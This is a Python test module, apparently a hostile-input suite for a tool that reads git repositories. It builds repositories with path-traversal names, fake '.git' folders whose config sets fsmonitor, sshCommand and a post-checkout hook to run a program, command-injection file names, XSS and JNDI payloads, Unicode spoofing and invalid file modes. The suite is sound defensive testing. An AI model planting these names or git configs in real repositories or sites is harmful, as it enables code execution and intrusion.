"""Names that no file system should be given, and modes that no file has."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.hostile import Hostile, Table
from tests.hostile.site import ORDINARY

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.hostile.site import Site

_CODE = b'"""Escaped."""\n\nX = 1\n'


def _folder(name: bytes) -> Callable[[Site], None]:
    """A folder of this name, with what git would take for its own in it."""

    def build(site: Site) -> None:
        hook = site.program.read_bytes()
        inner = {"config": _config(site), "hooks/post-checkout": hook, "HEAD": b"ref: refs/heads/main\n"}
        site.entry(name, site.folder({**inner, "escaped.py": _CODE}), b"40000")

    return build


def _file(*names: bytes) -> Callable[[Site], None]:
    """Files of these names."""

    def build(site: Site) -> None:
        for name in names:
            site.entry(name, site.blob(_CODE))

    return build


def _command(*names: str) -> Callable[[Site], None]:
    """Files whose names hold the command that must not run, its slashes apart."""

    def build(site: Site) -> None:
        for name in names:
            told = name.replace("CMD", f"cd {'..$(printf %b /)' * 3};touch canary")
            site.entry(told.replace("/", "\\057").encode(), site.blob(_CODE))

    return build


def _mode(mode: bytes) -> Callable[[Site], None]:
    return lambda site: site.entry(b"odd.py", site.blob(_CODE), mode)


def _config(site: Site) -> bytes:
    run = f"\tfsmonitor = {site.command}\n\tsshCommand = {site.command}\n\thooksPath = hooks\n"
    return f"[core]\n\trepositoryformatversion = 0\n\tbare = true\n{run}".encode()


def _deep(site: Site) -> None:
    oid, mode = site.blob(_CODE), b"100644"
    for _ in range(3_000):
        oid, mode = site.tree((mode, b"d", oid)), b"40000"
    site.entry(b"deep", oid, b"40000")


def _tree_as_file(site: Site) -> None:
    site.entry(b"tree.py", site.folder({"x.py": _CODE}))


def _file_as_tree(site: Site) -> None:
    site.entry(b"folder", site.blob(_CODE), b"40000")


def _executable(site: Site) -> None:
    site.executable({"README.md": ORDINARY["README.md"]})


def _repeated(site: Site) -> None:
    _file(b"same.py", b"same.py", b"Same.py", b"SAME.py")(site)
    site.entry(b"same.py", site.folder({"x.py": _CODE}), b"40000")


_FOLDERS = {
    "..": b"..",
    ".": b".",
    ".git": b".git",
    ".GIT": b".GIT",
    "git~1": b"git~1",
    ".git with a blank": b".git ",
    ".git with a dot": b".git.",
    ".git as a stream": b".git::$INDEX_ALLOCATION",
    ".git with a joiner": ".g\u200cit".encode(),
    ".git with a wide letter": ".ｇit".encode(),
    "our own": b".docgen",
    "a long one": b"n" * 5_000,
}
_FILES = {
    "a way up": (b"../escaped.py", b"../../outside/secret.txt"),
    "a root": (b"/tmp/escaped.py",),
    "backslashes": (b"..\\..\\escaped.py", b"C:\\escaped.py"),
    "escapes": (b"%2e%2e%2fescaped.py", b"..%c0%afx.py"),
    "a newline": (b"two\nlines.py", b"two\r\nlines.py"),
    "a bell": (b"bell\x07.py", b"esc\x1b[31m.py"),
    "text from the right": ("\u202eyp.x".encode(), "\u2066x\u2069.py".encode()),
    "nothing to see": ("\u200b.py".encode(), "\u3164.py".encode(), b" .py", b"\t.py"),
    "no UTF-8": (b"\xff\xfe.py", b"\xc0\xae\xc0\xae.py", b"\xed\xa0\x80.py"),
    "options": (b"-rf.py", b"--upload-pack=x.py", b"--help", b"-"),
    "globs": (b"[*]?.py", b"**", b"{a,b}.py", b":(glob)x.py"),
    "devices": (b"con.py", b"aux", b"nul.md", b"com1.py", b"LPT9.py"),
    "HTML": (b"<img src=x onerror=alert(1)>.py", b"<script>.py", b"--><b>.py"),
    "links": (b"](javascript:alert(1)).py", b"[x](https:evil.example).py"),
    "mentions": (b"@octocat.py", b"@acme"),
    "pipes": (b"a|b|c.py", b"`x`.py", b"```.py"),
    "a case": (b"readme.md", b"Readme.md", b"Calc"),
    "two forms of one letter": ("\u00e9.py".encode(), "e\u0301.py".encode()),
    "templates": (b"{{7*7}}.py", b"${jndi:ldap:evil.example}.py", b"%s%n.py"),
}

NAMES: Table = {
    **{f"folder named {name}": Hostile(_folder(raw)) for name, raw in _FOLDERS.items()},
    # Git itself cannot list these two.
    "folder without a name": Hostile(_folder(b""), "fetch unreachable"),
    "folder that is a file": Hostile(_file_as_tree, "fetch unreachable"),
    **{f"file named with {name}": Hostile(_file(*raws)) for name, raws in _FILES.items()},
    "file named as a command": Hostile(_command("$(CMD).py", "`CMD`.py", ";CMD;.py", "|CMD", "a\nCMD\n.py")),
    "paths of three thousand folders": Hostile(_deep),
    "mode of a pipe": Hostile(_mode(b"10644")),
    "mode of a device": Hostile(_mode(b"20666")),
    "mode of a socket": Hostile(_mode(b"140755")),
    "mode with setuid": Hostile(_mode(b"104755")),
    "mode of nothing": Hostile(_mode(b"0")),
    "mode beyond bounds": Hostile(_mode(b"77777777")),
    "file that is a folder": Hostile(_tree_as_file),
    "one name many times": Hostile(_repeated),
    "README that is executable": Hostile(_executable, "rejected(paths)"),
}
